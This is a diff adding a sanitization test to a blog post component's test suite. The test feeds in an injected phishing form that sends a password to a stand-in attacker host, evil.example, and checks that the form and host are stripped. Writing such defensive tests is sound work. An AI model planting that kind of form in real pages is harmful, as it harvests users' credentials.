@@ -84,6 +84,19 @@ describe('BlogPostSection', () => {
     expect((window as { hacked?: boolean }).hacked).toBeUndefined();
   });
 
+  it('removes forms and form controls from the content, keeping the text around them', async () => {
+    const content =
+      '<p>Before</p><form action="https://evil.example/login" method="post"><label>Password <input type="password" name="password"></label>' +
+      '<textarea name="note"></textarea><select name="bank"><option>Bank</option></select><button type="submit">Log in</button></form><p>After</p>';
+    stubPostApi({ detail: () => jsonResponse({ records: [{ ...post, content }] }) });
+    renderPost();
+    await screen.findByText('Before');
+    const article = screen.getByRole('article');
+    expect(screen.getByText('After')).toBeInTheDocument();
+    expect(article.querySelector('form, input, button, textarea, select')).toBeNull();
+    expect(article.innerHTML).not.toContain('evil.example');
+  });
+
   it('offers share links in new tabs with the page address and title', async () => {
     stubPostApi();
     renderPost();
